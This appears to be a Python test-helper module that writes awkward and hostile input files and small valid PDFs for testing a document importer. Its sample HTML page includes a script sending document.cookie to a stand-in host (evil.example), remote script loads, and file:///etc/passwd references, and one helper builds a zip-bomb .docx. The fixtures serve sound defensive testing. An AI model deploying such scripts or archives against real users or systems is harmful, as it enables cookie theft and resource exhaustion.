"""Test helpers that write awkward, broken and hostile input files, and small valid PDFs.

``make_broken_inputs(folder)`` writes one file per case and returns them by key:

===================  ===================================================================
key                  what the file is
===================  ===================================================================
binary               binary data (PNG header, NUL bytes) named ``.txt``
empty                an empty ``.txt``
invalid_utf8         undecodable bytes (broken UTF-8 and random high bytes) as ``.txt``
latin1               a German text encoded as Latin-1 (must import with correct umlauts)
huge                 a 50 MB text file (over the import limit)
hostile_html         an HTML page full of scripts, event handlers, ``file://`` images,
                     frames and ``javascript:`` links around one real article paragraph
fake_pdf             a text file named ``.pdf``
fake_docx            a text file named ``.docx`` (not a zip)
encrypted_pdf        a PDF that needs a password
zip_bomb_docx        a ``.docx`` whose members unpack to more than 200 MB
===================  ===================================================================

Inputs that attack the reader itself (escape sequences, crafted HTML and zip files, odd file
names and special files) are written by :mod:`tests.hostile_inputs`.
"""

from __future__ import annotations

import random
import zipfile
from pathlib import Path

HOSTILE_ARTICLE = (
    "The city council approved the new budget on Monday after a long debate about schools, "
    "roads and the future of the public library."
)
LATIN1_TEXT = (
    "Grüße aus der Stadtverwaltung\n\n"
    "Die Bürgermeisterin begrüßte am Sonntag die Gäste im Rathaus. Über fünfzig Menschen kamen, "
    "um über die Zukunft der Straßenbahn zu sprechen. Die Planung sieht vor, dass die Strecke "
    "bis zum Jahr 2030 verlängert wird.\n"
)
HOSTILE_HTML = f"""<!DOCTYPE html>
<html><head><title>City budget approved</title>
<script>alert("pwned"); fetch("https://evil.example/steal?c=" + document.cookie);</script>
<script src="https://evil.example/x.js"></script>
<style>@import url("https://evil.example/style.css"); p {{ background: url(file:///etc/passwd); }}</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head>
<body onload="alert('onload')">
<img src="file:///etc/passwd" onerror="alert('passwd')" alt="">
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<iframe src="https://evil.example/frame.html">iframe fallback alert</iframe>
<noscript>Please enable JavaScript alert</noscript>
<p onclick="alert('click')">{HOSTILE_ARTICLE}</p>
<a href="javascript:alert('link')">Read more</a>
<object data="file:///etc/passwd"></object><embed src="file:///etc/passwd">
<svg><script>alert('svg')</script></svg>
<!-- secret comment alert -->
</body></html>
"""
HUGE_BYTES = 50 * 1024 * 1024


def _pdf_string(text: str) -> str:
    """A PDF literal string body in WinAnsi (cp1252) with octal escapes."""
    out = []
    for byte in text.encode("cp1252"):
        if byte in b"()\\":
            out.append("\\" + chr(byte))
        elif 32 <= byte < 127:
            out.append(chr(byte))
        else:
            out.append(f"\\{byte:03o}")
    return "".join(out)


def make_text_pdf(
    pages: list[list[str]],
    *,
    title: str | None = None,
    author: str | None = None,
    encrypt: bool = False,
    creation_date: str | None = None,
) -> bytes:
    """A minimal valid PDF: Helvetica (WinAnsi), one text line per entry, "" = empty line.

    With ``encrypt`` the file carries a standard security handler that no password opens.
    """
    objects: list[bytes] = []
    kids = " ".join(f"{4 + 2 * i} 0 R" for i in range(len(pages)))
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode())
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    for index, lines in enumerate(pages):
        ops = ["BT", "/F1 12 Tf", "14 TL", "72 750 Td"]
        ops += [f"({_pdf_string(line)}) Tj T*" for line in lines]
        ops.append("ET")
        stream = "\n".join(ops).encode("latin-1")
        objects.append(
            (
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                f"/Resources << /Font << /F1 3 0 R >> >> /Contents {5 + 2 * index} 0 R >>"
            ).encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    trailer = ""
    if title is not None or author is not None or creation_date is not None:
        entries = ""
        if creation_date is not None:
            entries += f" /CreationDate ({_pdf_string(creation_date)})"
        if title is not None:
            entries += f" /Title ({_pdf_string(title)})"
        if author is not None:
            entries += f" /Author ({_pdf_string(author)})"
        objects.append(f"<<{entries} >>".encode("latin-1"))
        trailer += f" /Info {len(objects)} 0 R"
    if encrypt:
        key = "<" + "5A" * 32 + ">"
        objects.append(f"<< /Filter /Standard /V 1 /R 2 /O {key} /U {key} /P -4 >>".encode())
        trailer += f" /Encrypt {len(objects)} 0 R /ID [<0123456789ABCDEF> <0123456789ABCDEF>]"
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R{trailer} >>\n".encode()
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _invalid_utf8() -> bytes:
    rng = random.Random(1234)
    chunks = [b"\xff\xfe\xfa\xfb\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc"]
    for _ in range(400):
        chunks.append(bytes(rng.randrange(0x80, 0x100) for _ in range(rng.randrange(3, 12))))
        chunks.append(rng.choice([b"abc ", b"Text ", b"und ", b"x", b" "]))
    return b"".join(chunks)


def _write_huge(path: Path) -> None:
    block = ("Dies ist eine Zeile Text für eine sehr große Datei, immer wieder.\n" * 1024).encode()
    with path.open("wb") as handle:
        for _ in range(HUGE_BYTES // len(block) + 1):
            handle.write(block)


def _write_zip_bomb(path: Path) -> None:
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        with archive.open("word/media/padding.bin", "w", force_zip64=True) as member:
            for _ in range(210):
                member.write(chunk)


def make_broken_inputs(folder: Path) -> dict[str, Path]:
    """Write all broken/hostile input files into ``folder``; return them by key."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "binary": folder / "binary.txt",
        "empty": folder / "empty.txt",
        "invalid_utf8": folder / "invalid_utf8.txt",
        "latin1": folder / "latin1.txt",
        "huge": folder / "huge.txt",
        "hostile_html": folder / "hostile.html",
        "fake_pdf": folder / "fake.pdf",
        "fake_docx": folder / "fake.docx",
        "encrypted_pdf": folder / "encrypted.pdf",
        "zip_bomb_docx": folder / "zip_bomb.docx",
    }
    files["binary"].write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(7).randbytes(4096))
    files["empty"].write_bytes(b"")
    files["invalid_utf8"].write_bytes(_invalid_utf8())
    files["latin1"].write_bytes(LATIN1_TEXT.encode("latin-1"))
    _write_huge(files["huge"])
    files["hostile_html"].write_text(HOSTILE_HTML, encoding="utf-8")
    files["fake_pdf"].write_text("This is just a text file pretending to be a PDF.\n", encoding="utf-8")
    files["fake_docx"].write_text("Neither a zip nor a Word document.\n", encoding="utf-8")
    files["encrypted_pdf"].write_bytes(make_text_pdf([["Secret text"]], encrypt=True))
    _write_zip_bomb(files["zip_bomb_docx"])
    return files
